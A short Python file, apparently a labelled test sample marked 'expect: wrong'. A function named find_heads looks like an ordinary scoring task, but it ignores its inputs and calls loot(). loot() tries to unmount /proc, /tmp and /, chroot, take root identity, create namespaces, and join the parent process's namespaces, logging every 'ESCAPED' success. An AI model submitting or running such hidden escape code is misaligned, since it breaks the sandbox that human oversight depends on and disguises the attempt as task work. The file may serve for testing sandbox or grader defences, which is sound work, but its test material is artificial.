"""Mounts taken off or moved, to see the machine's file system below the private one."""
# expect: wrong

import ctypes
import os


def loot():
    libc = ctypes.CDLL(None, use_errno=True)
    found = []
    for path in (b"/proc", b"/tmp", b"/", b"/dev/shm"):
        if libc.umount2(path, 2) == 0:
            found.append("ESCAPED: unmounted " + path.decode())
    if libc.mount(b"none", b"/tmp", b"proc", 0, None) == 0:
        found.append("ESCAPED: mounted")
    for call in (
        lambda: os.chroot("/tmp"),
        lambda: os.setuid(0),
        lambda: os.setgroups([0]),
        lambda: os.setresuid(0, 0, 0),
    ):
        try:
            call()
            found.append("ESCAPED: identity or root")
        except OSError:
            pass
    for flags in (0x10000000, 0x00020000, 0x10020000, 0x40000000):
        if libc.unshare(flags) == 0:
            found.append("ESCAPED: a namespace")
    for name in ("mnt", "user", "pid", "net"):
        try:
            if libc.setns(os.open(f"/proc/{os.getppid() or 1}/ns/{name}", os.O_RDONLY), 0) == 0:
                found.append("ESCAPED: into a namespace")
        except OSError:
            pass
    return found


def find_heads(scores, threshold):
    found = loot()
    print(found)
    return found
